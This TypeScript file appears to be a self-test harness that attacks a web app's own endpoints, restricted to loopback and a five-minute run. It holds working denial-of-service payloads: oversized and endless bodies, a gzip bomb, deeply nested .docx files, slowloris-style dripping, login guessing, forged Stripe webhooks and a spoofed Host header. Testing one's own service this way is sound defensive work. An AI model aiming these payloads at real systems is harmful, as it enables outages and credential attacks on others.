/**
 * Everything at once against one address: bodies far too large, announced and not; forms of a million pairs; compressed bombs; guesses;
 * streams by the hundred; headers and bodies that drip; files one after the other; a document of nothing but depth; forged webhooks;
 * calls by a foreign name. A process of its own, loopback only; it ends when it is told to, and by itself after five minutes.
 *   ATTACK_URL, ATTACK_TOKEN (a guest's), ATTACK_DDL (a conversation of theirs)
 */
import PizZip from 'pizzip';
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

const LONGEST_MS = 300_000;
const { ATTACK_URL = '', ATTACK_TOKEN = '', ATTACK_DDL = '' } = process.env;
const target = new URL(ATTACK_URL);
if (target.hostname !== '127.0.0.1') throw new Error('Attacks stay on this machine.');

const met: Record<string, Record<string, number>> = {};

function note(attack: string, what: string | number): void {
  const counts = (met[attack] ??= {});
  counts[what] = (counts[what] ?? 0) + 1;
}

/** The bytes of a request's head; the body follows, or does not. */
function head(path: string, headers: Record<string, string | number>, method = 'POST'): string {
  const lines = Object.entries({ host: target.host, ...headers }).map(([name, value]) => `${name}: ${value}`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`;
}

/** Says something on a line of its own until it was answered or cut. */
function say(attack: string, parts: () => Iterable<string | Buffer>, patienceMs = 15_000): Promise<void> {
  return new Promise((over) => {
    let heard = '';
    const socket = connect(Number(target.port), target.hostname, () => void speak());
    const timer = setTimeout(() => socket.destroy(), patienceMs);
    async function speak() {
      for (const part of parts()) {
        if (socket.destroyed) return;
        if (!socket.write(part)) await new Promise((go) => socket.once('drain', go).once('close', go));
      }
    }
    socket.on('data', (bytes: Buffer) => {
      if (heard.length < 100) heard += bytes.toString('latin1');
      if (heard.includes('\r\n')) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      note(attack, /^HTTP\/1\.1 (\d+)/.exec(heard)?.[1] ?? 'cut');
      over();
    });
  });
}

const JSON_TYPE = { 'content-type': 'application/json' };
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };
const LOGIN = '/api/login/fromespace';
const MEGABYTE = Buffer.alloc(1_048_576, '[');
const PAIRS = Buffer.from('a=1&'.repeat(262_144));

function* times(part: Buffer, count: number): Generator<Buffer> {
  for (let n = 0; n < count; n++) yield part;
}
function* chunks(part: Buffer, count: number): Generator<string | Buffer> {
  for (let n = 0; n < count; n++) {
    yield `${part.length.toString(16)}\r\n`;
    yield part;
    yield '\r\n';
  }
}

function announced(
  bytes: number,
  type: Record<string, string>,
  part: Buffer,
): () => Iterable<string | Buffer> {
  return function* () {
    yield head(LOGIN, { ...type, 'content-length': bytes });
    yield* times(part, Math.ceil(bytes / part.length));
  };
}

/** A Word document of nothing but depth: some kilobytes that unfold into hundreds of thousands of elements. */
function deep(element: string, depth: number): Buffer {
  const zip = new PizZip();
  zip.file(
    '[Content_Types].xml',
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  zip.file(
    'word/document.xml',
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${`<${element}>`.repeat(depth)}${`</${element.split(' ')[0]}>`.repeat(depth)}</w:body></w:document>`,
  );
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

function attachment(name: string, bytes: Buffer): () => Iterable<string | Buffer> {
  const boundary = 'grenze';
  const before = `--${boundary}\r\ncontent-disposition: form-data; name="id_ddl"\r\n\r\n${ATTACK_DDL}\r\n--${boundary}\r\ncontent-disposition: form-data; name="myFile"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`;
  const after = `\r\n--${boundary}--\r\n`;
  return function* () {
    yield head('/api/ddlchats', {
      authorization: `Bearer ${ATTACK_TOKEN}`,
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'content-length': before.length + bytes.length + after.length,
    });
    yield before;
    yield bytes;
    yield after;
  };
}

const BOMB = gzipSync(Buffer.alloc(33_554_432, ' '));
const BIG = Buffer.concat([Buffer.from('%PDF-1.4\n'), randomBytes(4_900_000), Buffer.from('\n%%EOF')]);
const PARAGRAPHS = deep('w:p', 200_000);
const TABLES = deep('w:tbl', 20_000);

let guesses = 0;

/** How many lines do it, how long each rests between two, and what it does. */
const ATTACKS: readonly [name: string, lines: number, restMs: number, act: () => Promise<void>][] = [
  ['31 MB of JSON', 2, 300, () => say('31 MB of JSON', announced(31_000_000, JSON_TYPE, MEGABYTE))],
  ['126 MB of JSON', 1, 300, () => say('126 MB of JSON', announced(126_000_000, JSON_TYPE, MEGABYTE))],
  [
    'JSON without an end',
    2,
    300,
    () =>
      say('JSON without an end', function* () {
        yield head(LOGIN, { ...JSON_TYPE, 'transfer-encoding': 'chunked' });
        yield* chunks(MEGABYTE, 126);
      }),
  ],
  ['a million pairs', 2, 300, () => say('a million pairs', announced(31_000_000, FORM_TYPE, PAIRS))],
  [
    'a quarter of a megabyte of depth',
    2,
    100,
    () =>
      say('a quarter of a megabyte of depth', announced(262_000, JSON_TYPE, MEGABYTE.subarray(0, 262_000))),
  ],
  [
    'a compressed bomb',
    1,
    200,
    () =>
      say('a compressed bomb', function* () {
        yield head(LOGIN, { ...JSON_TYPE, 'content-encoding': 'gzip', 'content-length': BOMB.length });
        yield BOMB;
      }),
  ],
  [
    'guesses',
    20,
    50,
    () =>
      say('guesses', function* () {
        guesses += 1;
        // Every other says that it is a browser which logged in before.
        const browser =
          guesses % 2 === 0 ? `&LoginForm[browser]=${randomBytes(32).toString('base64url')}` : '';
        const body = `LoginForm[username]=nobody${guesses}@exemple.test&LoginForm[password]=Essai-${guesses}${browser}`;
        yield head(LOGIN, { ...FORM_TYPE, 'content-length': Buffer.byteLength(body) });
        yield body;
      }),
  ],
  [
    'streams',
    100,
    1_000,
    () =>
      say(
        'streams',
        function* () {
          yield head('/api/events', { authorization: `Bearer ${ATTACK_TOKEN}` }, 'GET');
        },
        4_000,
      ),
  ],
  [
    'dripped headers',
    150,
    500,
    () =>
      say('dripped headers', function* () {
        yield 'GET /api/config HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ';
      }),
  ],
  [
    'dripped bodies',
    150,
    500,
    () =>
      say(
        'dripped bodies',
        function* () {
          yield head(LOGIN, { ...JSON_TYPE, 'content-length': 1_000 });
          yield '{';
        },
        60_000,
      ),
  ],
  ['files of 4.9 MB', 3, 300, () => say('files of 4.9 MB', attachment('devis.pdf', BIG))],
  ['nested paragraphs', 2, 300, () => say('nested paragraphs', attachment('notice.docx', PARAGRAPHS))],
  ['nested tables', 2, 300, () => say('nested tables', attachment('notice.docx', TABLES))],
  [
    'forged webhooks',
    3,
    50,
    () =>
      say('forged webhooks', function* () {
        const body = Buffer.alloc(500_000, ' ');
        yield head('/api/webhooks/stripe', {
          ...JSON_TYPE,
          'stripe-signature': 't=1,v1=00',
          'content-length': body.length,
        });
        yield body;
      }),
  ],
  [
    'a foreign name',
    5,
    50,
    () =>
      say('a foreign name', function* () {
        yield head('/sandbox/mail', { host: 'evil.test' }, 'GET');
      }),
  ],
];

const end = Date.now() + LONGEST_MS;
const told = new AbortController();

async function attack([, lines, restMs, act]: (typeof ATTACKS)[number]): Promise<void> {
  const line = async (number: number) => {
    // Not all in the same instant, round after round.
    await pause((restMs * number) / lines);
    while (!told.signal.aborted && Date.now() < end) {
      await act();
      await pause(restMs);
    }
  };
  await Promise.all(Array.from({ length: lines }, (_, number) => line(number)));
}

process.on('SIGTERM', () => {
  told.abort();
  process.stdout.write(`met ${JSON.stringify(met)}\n`, () => process.exit(0));
});
process.stdout.write(`answers at ${target.origin}\n`);
await Promise.all(ATTACKS.map(attack));
process.exit(0);
